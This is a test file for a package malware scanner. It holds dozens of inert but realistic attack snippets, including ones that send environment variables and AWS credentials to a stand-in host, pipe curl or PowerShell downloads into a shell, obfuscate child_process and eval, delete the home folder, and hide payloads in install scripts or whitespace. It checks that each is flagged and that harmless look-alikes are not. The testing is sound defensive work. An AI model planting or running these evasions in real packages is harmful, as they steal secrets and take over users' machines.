/**
 * What somebody would try who reads the rules: the same act, written so that words do not show it. All of it is inert:
 * hosts are reserved for examples, and nothing of it is run. Look-alikes stand at the end.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { refusedFrom } from './score.ts';
import { scanOf } from './testing/scan-of.ts';

const url = 'https://c.example/a';
const https = "const https = require('https');";
const cp = "const cp = require('child_process');";
const fs = "const fs = require('fs');";
const all = 'JSON.stringify(process.env)';
const pipe = 'curl -s https://c.example/x | sh';
const padding = (lines: number): string => `// ${'x'.repeat(90)}\n`.repeat(lines);
const codes = '99,104,105,108,100,95,112,114,111,99,101,115,115';

/** Loaded by nobody but its users: without an install script. */
const inMain: Readonly<Record<string, string>> = {
  'a helper of its own sends': `${https} function s(d) { https.request('${url}', { method: 'POST' }).end(d); } s(${all});`,
  'globals by names in pieces': `${https} https.request('${url}').end(JSON.stringify(globalThis['pro' + 'cess']['en' + 'v']));`,
  'environment taken out of process': `${https} const { env } = process; https.request('${url}').end(JSON.stringify(env));`,
  'environment imported': `import { env } from 'node:process'; import https from 'node:https'; https.request('${url}').end(JSON.stringify(env));`,
  'environment of a required process': `const p = require('process'); require('https').get('${url}?' + JSON.stringify(p.env));`,
  'environment in a loop': `${https} let o = ''; for (const k in process.env) o += k + process.env[k]; https.get('${url}?' + o);`,
  'optional chains': `${https} https?.get?.('${url}?' + JSON.stringify(process?.env));`,
  Reflect: `${https} Reflect.apply(https.get, https, ['${url}?' + JSON.stringify(Reflect.get(process, 'env'))]);`,
  call: `${https} https.get.call(https, '${url}?' + ${all});`,
  bind: `${https} const g = https.get.bind(https); g('${url}?' + ${all});`,
  'a getter': `${https} const c = { get d() { return ${all}; } }; https.get('${url}?' + c.d);`,
  'fields of a class': `${https} class A { constructor() { this.d = ${all}; } go() { https.get('${url}?' + this.d); } } new A().go();`,
  'fetch under another name': `const f = globalThis.fetch; f('${url}', { method: 'POST', body: ${all} });`,
  'the address of a picture': `new Image().src = '${url}?' + ${all};`,
  'a module as a promise': `import('https').then((h) => h.get('${url}?' + ${all}));`,
  'a resolver of names': `const { Resolver } = require('dns'); new Resolver().resolve4(Buffer.from(${all}).toString('hex') + '.c.example', f);`,
  'HTTP/2': `const h = require('http2').connect('https://c.example'); const r = h.request({}); r.end(${all});`,
  'the output of env': `${cp} const e = cp.execSync('env'); fetch('${url}', { method: 'POST', body: e });`,
  'the environment as a file': `${fs} fetch('${url}', { method: 'POST', body: fs.readFileSync('/proc/self/environ') });`,
  createRequire: `import { createRequire } from 'module'; const r = createRequire(import.meta.url); r('https').get('${url}?' + ${all});`,
  'require under another name': `const r = require; r('https').get('${url}?' + ${all});`,
  'require behind a condition': `const r = typeof require !== 'undefined' ? require : null; r('child_process').exec('${pipe}');`,
  'a name put together in a template': `require(\`child\${'_'}process\`).exec('${pipe}');`,
  'a name by replace': `require('child-process'.replace('-', '_')).exec('${pipe}');`,
  'a name by case': `require('CHILD_PROCESS'.toLowerCase()).exec('${pipe}');`,
  'a name by split and join': `require('child#_#process'.split('#').join('')).exec('${pipe}');`,
  'a name backwards': `require([...'ssecorp_dlihc'].reverse().join('')).exec('${pipe}');`,
  'a name cut out': `require('xxchild_processyy'.slice(2, -2)).exec('${pipe}');`,
  'a name of spread codes': `require(String.fromCharCode(...[${codes}])).exec('${pipe}');`,
  'a name of mapped codes': `require([${codes}].map((c) => String.fromCharCode(c)).join('')).exec('${pipe}');`,
  'a name of decoded bytes': `require(new TextDecoder().decode(new Uint8Array([${codes}]))).exec('${pipe}');`,
  'inner bindings': `process.binding('spawn_sync').spawn({ file: '/bin/sh', args: ['sh', '-c', text] });`,
  'a property': `const m = { c: require('child_process') }; m.c.exec('${pipe}');`,
  'an element': `const m = [require('child_process')]; m[0].exec('${pipe}');`,
  'a parameter': `((c) => c.exec('${pipe}'))(require('child_process'));`,
  'a result': `function g() { return require('child_process'); } g().exec('${pipe}');`,
  'a proxy': `new Proxy(require('child_process'), {}).exec('${pipe}');`,
  'a copy': `Object.assign({}, require('child_process')).exec('${pipe}');`,
  'a variable that later says nothing': `let c = require('child_process'); let t = '${pipe}'; c.exec(t); c = null; t = '';`,
  'a command in pieces': `${cp} cp.exec(['cu', 'rl -s https://c.example/x | s', 'h'].join(''));`,
  'a command with quotes in its words': `${cp} cp.exec('c""url -s https://c.example/x | s""h');`,
  'a shell fed by a substitution': `${cp} cp.exec('bash <(curl -s https://c.example/x)');`,
  'a shell given a substitution': `${cp} cp.exec('sh -c "$(curl -fsSL https://c.example/x)"');`,
  'written, then run': `${cp} cp.exec('curl -so /tmp/a https://c.example/x && sh /tmp/a');`,
  'another language': `${cp} cp.exec("python3 -c \\"import urllib.request as u;exec(u.urlopen('https://c.example/x').read())\\"");`,
  PowerShell: `${cp} cp.exec('powershell -c iex(irm https://c.example/x)');`,
  'Function under another name': `const F = Function; fetch('${url}').then((r) => r.text()).then((t) => F(t)());`,
  'the constructor of a function': `fetch('${url}').then((r) => r.text()).then((t) => (() => {}).constructor(t)());`,
  'eval handed on': `fetch('${url}').then((r) => r.text()).then(eval);`,
  'a module of data': `fetch('${url}').then((r) => r.text()).then((t) => import('data:text/javascript,' + t));`,
  'a worker of text': `const { Worker } = require('worker_threads'); fetch('${url}').then((r) => r.text()).then((t) => new Worker(t, { eval: true }));`,
  'a name server that answers code': `require('dns').resolveTxt('c.example', (e, r) => eval(r[0][0]));`,
  'commands from a socket': `const io = require('socket.io-client'); io('https://c.example').on('cmd', (c) => require('child_process').exec(c));`,
  'a decoder of its own': `function d(s) { let o = ''; for (const c of s.split(',')) o += String.fromCharCode(c ^ 7); return o; } eval(d('1,2,3'));`,
  'a decoder in a replacement': `const s = 'pbafbyr'; eval(s.replace(/[a-z]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 13)));`,
  'text of invisible characters': `const d = (s) => [...s].map((c) => c.codePointAt(0) - 0xfe00); eval(Buffer.from(d(t)).toString());`,
  'a constructor of a method': `[]['filter']['constructor'](atob('Y29uc29sZS5sb2coMSk='))();`,
  'signs alone': '[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]]('.repeat(30),
  'a path in parts': `${fs} const p = require('path'); const t = fs.readFileSync(p.join(require('os').homedir(), '.aws', 'credentials')); fetch('${url}', { method: 'POST', body: t });`,
  'the home folder by a function': `${fs} fs.rmSync(require('os').homedir(), { recursive: true, force: true });`,
  'far to the right, a longer gap as a decoy': `a = 1;${' '.repeat(200)}require('child_process').exec('x');\nb = 1;${' '.repeat(600)}// end`,
  'far to the right by tabs': `a = 1;${'\t'.repeat(60)}require('child_process').exec('x');`,
  'far to the right by other blanks': `a = 1;${'\u00a0'.repeat(200)}require('child_process').exec('x');`,
  'far down': `a = 1;${'\n'.repeat(800)}require('child_process').exec('x');`,
  'padded to a bundle': `${https}\n${padding(3500)} https.request('${url}').end(${all});`,
};

for (const [how, code] of Object.entries(inMain)) {
  test(`found without an install script: ${how}`, () => {
    const { score, findings } = scanOf({ 'index.js': code }, { main: 'index.js' });
    assert.ok((score?.value ?? 0) >= refusedFrom, JSON.stringify(findings.map(({ rule }) => rule)));
  });
}

const sends = `${https} https.request('${url}', { method: 'POST' }).end(${all});`;

/** Files, and what package.json says. */
const packages: Readonly<
  Record<string, readonly [Readonly<Record<string, string>>, Readonly<Record<string, unknown>>]>
> = {
  'main loads a test': [{ 'index.js': "require('./test/setup');", 'test/setup.js': sends }, {}],
  'main loads a document, its path in pieces': [
    { 'index.js': "require('./do' + 'cs/setup');", 'docs/setup.js': sends },
    {},
  ],
  'main loads a file named like a test': [
    { 'index.js': "require('./lib/a.test.js');", 'lib/a.test.js': sends },
    {},
  ],
  'main is a folder of tests': [
    { 'test/package.json': '{"main":"evil.js"}', 'test/evil.js': sends },
    { main: './test' },
  ],
  'main loads a text': [{ 'index.js': "require('./data.txt');", 'data.txt': sends }, {}],
  'main has no extension': [{ 'lib/m': sends }, { main: 'lib/m' }],
  'main is data': [{ 'lib/m.dat': sends }, { main: 'lib/m.dat' }],
  'imports name a test': [
    { 'index.js': "require('#a');", 'test/a.js': sends },
    { imports: { '#a': './test/a.js' } },
  ],
  'browsers get another file': [
    { 'index.js': '1', 'test/a.js': sends },
    { browser: { './index.js': './test/a.js' } },
  ],
  'a package inside of it has an install script': [
    {
      'node_modules/d/package.json': '{"scripts":{"postinstall":"node x.js"}}',
      'node_modules/d/x.js': sends,
    },
    { bundleDependencies: ['d'] },
  ],
  'node-gyp runs a command': [{ 'binding.gyp': `{ 'sources': ['<!(${pipe})'] }` }, {}],
  'node-gyp runs a file': [{ 'binding.gyp': "{ 'sources': ['<!(node b/x.js)'] }", 'b/x.js': sends }, {}],
  'node-gyp has an action': [{ 'binding.gyp': `{ 'actions': [{ 'action': ['sh', '-c', '${pipe}'] }] }` }, {}],
  'a script behind a script': [{}, { scripts: { postinstall: 'npm run -s setup', setup: pipe } }],
  'a script by yarn': [{}, { scripts: { postinstall: 'yarn setup', setup: pipe } }],
  'its own program under a known name': [
    { 'e.js': sends },
    { bin: { husky: 'e.js' }, scripts: { postinstall: 'husky install' } },
  ],
  'a setting of the manifest': [
    {},
    { config: { c: pipe }, scripts: { postinstall: 'sh -c "$npm_package_config_c"' } },
  ],
  'quotes in the words of a command': [
    {},
    { scripts: { postinstall: "c''url -s https://c.example/x | s''h" } },
  ],
  'a package from an address': [{}, { scripts: { postinstall: 'npm i https://c.example/x.tgz' } }],
  'another language': [{}, { scripts: { postinstall: "python3 -c 'import os'" } }],
  'a text as a program': [{ 'x.txt': sends }, { scripts: { postinstall: 'node x.txt' } }],
  'a program out of a file': [{ 'x.dat': sends }, { scripts: { postinstall: 'cat x.dat | node' } }],
  'the package itself': [{ 'main.js': sends }, { main: 'main.js', scripts: { postinstall: 'node .' } }],
  'a folder by a variable': [{ 'x.js': sends }, { scripts: { postinstall: 'node $PWD/x.js' } }],
  'another folder first': [{ 'a/x.js': sends }, { scripts: { postinstall: 'cd a && node x' } }],
  'a shell script with variables': [
    { 'x.sh': 'A=cu; B=rl; $A$B -s https://c.example/x | sh' },
    { scripts: { postinstall: 'sh x.sh' } },
  ],
  'a makefile': [{ Makefile: `all:\n\t${pipe}\n` }, { scripts: { postinstall: 'make' } }],
  'a joined path': [
    { 'x.js': "require(require('path').join(__dirname, 'p', 'q'));", 'p/q.js': sends },
    { scripts: { postinstall: 'node x.js' } },
  ],
  'a folder of which one is chosen': [
    { 'x.js': "for (const f of list) require('./p/' + f);", 'p/q.js': sends },
    { scripts: { postinstall: 'node x.js' } },
  ],
  'more files than are read by hand': [
    {
      ...Object.fromEntries(Array.from({ length: 220 }, (_, i) => [`l/${i}.js`, `require('./${i + 1}')`])),
      'l/220.js': sends,
    },
    { scripts: { postinstall: 'node l/0.js' } },
  ],
  'a file too large to be read': [
    { 'x.js': `${padding(13_000)}${sends}` },
    { scripts: { postinstall: 'node x.js' } },
  ],
};

for (const [how, [files, manifest]] of Object.entries(packages)) {
  test(`found in a package: ${how}`, () => {
    const { score, findings } = scanOf(files, manifest);
    assert.ok((score?.value ?? 0) >= refusedFrom, JSON.stringify(findings.map(({ rule }) => rule)));
  });
}

const harmless: typeof packages = {
  'settings of one prefix, as libraries of settings read them': [
    {
      'index.js': `${https} const o = {}; for (const k in process.env) { if (k.startsWith(prefix)) o[k] = process.env[k]; } https.get(o.url);`,
    },
    {},
  ],
  'a variable by a name from elsewhere': [
    { 'index.js': 'fetch(url, { headers: { a: process.env[name] }, body: x });' },
    {},
  ],
  'a build that asks where headers are': [
    { 'binding.gyp': `{ 'include_dirs': ["<!(node -p \\"require('node-addon-api').include\\")"] }` },
    {},
  ],
  'tests that nobody loads': [{ 'index.js': 'module.exports = 1;', 'test/setup.js': sends }, {}],
  'a document about commands': [
    { 'README.md': `Run \`${pipe}\`.`, 'index.js': "require('fs').readFileSync('./README.md');" },
    {},
  ],
  'a script behind a script that builds': [
    {},
    { scripts: { postinstall: 'npm run build', build: 'tsc -p .' } },
  ],
  'a parser that makes text of codes': [
    {
      'index.js':
        'function read(s) { return String.fromCharCode(s.charCodeAt(0)); } module.exports = (s) => new Function(read(s));',
    },
    {},
  ],
  'one cloud, its variables and its file': [
    {
      'index.js': `${fs} ${https} const k = process.env.AWS_SECRET_ACCESS_KEY || fs.readFileSync(home + '/.aws/credentials'); https.get(u);`,
    },
    {},
  ],
  'a cleaned cache below the home folder': [
    {
      'index.js': `${fs} fs.rmSync(require('path').join(require('os').homedir(), '.cache', 'x'), { recursive: true });`,
    },
    {},
  ],
  'a table aligned with blanks': [{ 'index.js': `const a = 1;${' '.repeat(160)}// a comment\n` }, {}],
};

for (const [what, [files, manifest]] of Object.entries(harmless)) {
  test(`left alone: ${what}`, () => {
    const { score, findings } = scanOf(files, manifest);
    assert.ok((score?.value ?? 0) < 4, JSON.stringify(findings.map(({ rule }) => rule)));
  });
}
